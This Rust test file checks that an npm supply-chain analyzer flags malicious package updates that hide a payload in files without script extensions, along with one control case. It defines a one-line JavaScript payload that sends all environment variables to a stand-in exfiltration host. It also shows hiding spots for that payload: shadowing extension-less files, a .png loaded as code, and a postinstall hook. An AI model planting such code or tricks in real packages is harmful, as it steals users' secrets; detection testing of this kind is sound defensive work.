//! Files Node loads whatever their name: a payload must not hide in a file the analyzer skips
//! because of its extension. Each case is an attack update (old → new) that must be blocked
//! by a capability rule, and a control that must stay quiet.

use turncoat_analyze::{Capability, DiffContext, FileKind, FileRef, Options, VersionFacts};
use turncoat_finding::Finding;

const PAYLOAD: &str =
    "require('https').get('https://collect.exfil.invalid/?' + JSON.stringify(process.env));";

fn facts(files: &[(&str, &str)]) -> VersionFacts {
    let refs: Vec<FileRef<'_>> = files
        .iter()
        .map(|(p, d)| FileRef {
            path: p,
            data: d.as_bytes(),
        })
        .collect();
    turncoat_analyze::facts(&refs, &Options::default())
}

fn manifest(version: &str, extra: &str) -> String {
    let sep = if extra.is_empty() { "" } else { "," };
    format!(r#"{{"name":"pkg","version":"{version}"{sep}{extra}}}"#)
}

fn diff(old: &[(&str, &str)], new: &[(&str, &str)]) -> Vec<Finding> {
    turncoat_analyze::diff(
        &facts(old),
        &facts(new),
        &DiffContext::new("pkg", "1.0.0", "1.0.1"),
    )
}

fn codes(f: &[Finding]) -> Vec<&str> {
    f.iter().map(|f| f.code.as_str()).collect()
}

fn assert_caught(findings: &[Finding]) {
    let c = codes(findings);
    assert!(
        c.contains(&"new-network") && c.contains(&"new-env-dump"),
        "payload not seen: {c:?}"
    );
}

#[test]
fn extension_less_bin_with_shebang_is_analysed() {
    let m_old = manifest("1.0.0", r#""bin":{"tool":"cli"}"#);
    let m_new = manifest("1.0.1", r#""bin":{"tool":"cli"}"#);
    let old_cli = "#!/usr/bin/env node\nconsole.log('tool');\n";
    let new_cli = format!("#!/usr/bin/env node\nconsole.log('tool');\n{PAYLOAD}\n");
    let f = diff(
        &[("package.json", &m_old), ("cli", old_cli)],
        &[("package.json", &m_new), ("cli", &new_cli)],
    );
    assert_caught(&f);
    let facts = facts(&[("package.json", &m_new), ("cli", &new_cli)]);
    let cli = &facts.files["cli"];
    assert_eq!(cli.kind, FileKind::Script);
    assert!(cli.loaded_as_script);
}

#[test]
fn shebang_without_bin_entry_is_analysed() {
    // Not declared anywhere: a shebang file can still be run by a hook or by a user.
    let new = format!("#!/usr/bin/env -S node --no-warnings\n{PAYLOAD}\n");
    let f = diff(
        &[("package.json", &manifest("1.0.0", ""))],
        &[
            ("package.json", &manifest("1.0.1", "")),
            ("tools/run", &new),
        ],
    );
    assert_caught(&f);
}

#[test]
fn main_without_script_extension_is_analysed() {
    let m_old = manifest("1.0.0", r#""main":"lib/entry""#);
    let m_new = manifest("1.0.1", r#""main":"lib/entry""#);
    let f = diff(
        &[
            ("package.json", &m_old),
            ("lib/entry", "module.exports = 1;"),
        ],
        &[
            ("package.json", &m_new),
            ("lib/entry", &format!("module.exports = 1;\n{PAYLOAD}")),
        ],
    );
    assert_caught(&f);
}

#[test]
fn exports_condition_targets_are_analysed() {
    let exports =
        r#""exports":{".":{"node":{"require":"./dist/node.cjs.txt"},"default":"./index.js"}}"#;
    let m_old = manifest("1.0.0", exports);
    let m_new = manifest("1.0.1", exports);
    let f = diff(
        &[
            ("package.json", &m_old),
            ("index.js", "module.exports = 1;"),
            ("dist/node.cjs.txt", "module.exports = 2;"),
        ],
        &[
            ("package.json", &m_new),
            ("index.js", "module.exports = 1;"),
            (
                "dist/node.cjs.txt",
                &format!("module.exports = 2;\n{PAYLOAD}"),
            ),
        ],
    );
    assert_caught(&f);
}

#[test]
fn extension_less_file_shadows_the_js_file_it_sits_beside() {
    // `require('./lib/util')` loads `lib/util` (exact path) before `lib/util.js`.
    let f = diff(
        &[
            ("package.json", &manifest("1.0.0", "")),
            ("index.js", "module.exports = require('./lib/util');"),
            ("lib/util.js", "module.exports = 1;"),
        ],
        &[
            ("package.json", &manifest("1.0.1", "")),
            ("index.js", "module.exports = require('./lib/util');"),
            ("lib/util.js", "module.exports = 1;"),
            ("lib/util", PAYLOAD),
        ],
    );
    assert_caught(&f);
}

#[test]
fn a_required_data_file_is_compiled_as_commonjs() {
    // `require('./assets/logo.png')` compiles logo.png as JavaScript in CommonJS.
    let f = diff(
        &[
            ("package.json", &manifest("1.0.0", "")),
            ("index.js", "module.exports = 1;"),
            ("assets/logo.png", "\u{89}PNG not really"),
        ],
        &[
            ("package.json", &manifest("1.0.1", "")),
            (
                "index.js",
                "module.exports = 1; require('./assets/logo.png');",
            ),
            ("assets/logo.png", PAYLOAD),
        ],
    );
    assert_caught(&f);
}

#[test]
fn requires_are_followed_through_loaded_files() {
    // cli (shebang) → ./stage1 (no extension) → ./stage2.dat: every hop is loaded.
    let m = |v| manifest(v, r#""bin":"cli""#);
    let f = diff(
        &[
            ("package.json", &m("1.0.0")),
            ("cli", "#!/usr/bin/env node\nconsole.log(1)"),
        ],
        &[
            ("package.json", &m("1.0.1")),
            ("cli", "#!/usr/bin/env node\nrequire('./stage1')"),
            ("stage1", "require('./stage2.dat')"),
            ("stage2.dat", PAYLOAD),
        ],
    );
    assert_caught(&f);
}

#[test]
fn install_hook_running_an_extension_less_file_reaches_its_code() {
    // `node setup` runs `setup` when it exists (not `setup.js`).
    let hook = r#""scripts":{"postinstall":"node setup"}"#;
    let new = facts(&[
        ("package.json", &manifest("1.0.1", hook)),
        ("setup.js", "console.log('hello')"),
        ("setup", PAYLOAD),
    ]);
    assert!(new.is_install_time("setup"), "{:?}", new.install_time_files);
    assert!(!new.is_install_time("setup.js"));
    assert!(new.js("setup").is_some_and(|j| j.has(Capability::Network)));
}

#[test]
fn data_nobody_loads_stays_data() {
    // Control: text files, JSON and unreferenced extension-less files are not scripts.
    let new = facts(&[
        ("package.json", &manifest("1.0.1", r#""main":"index.js""#)),
        ("index.js", "module.exports = require('./data.json');"),
        ("data.json", r#"{"url":"https://example.com"}"#),
        ("LICENSE", "MIT License\nPermission is hereby granted"),
        ("docs/guide.txt", PAYLOAD),
    ]);
    for p in ["data.json", "LICENSE", "docs/guide.txt"] {
        assert_eq!(new.files[p].kind, FileKind::Other, "{p}");
        assert!(new.files[p].js.is_none(), "{p}");
    }
}
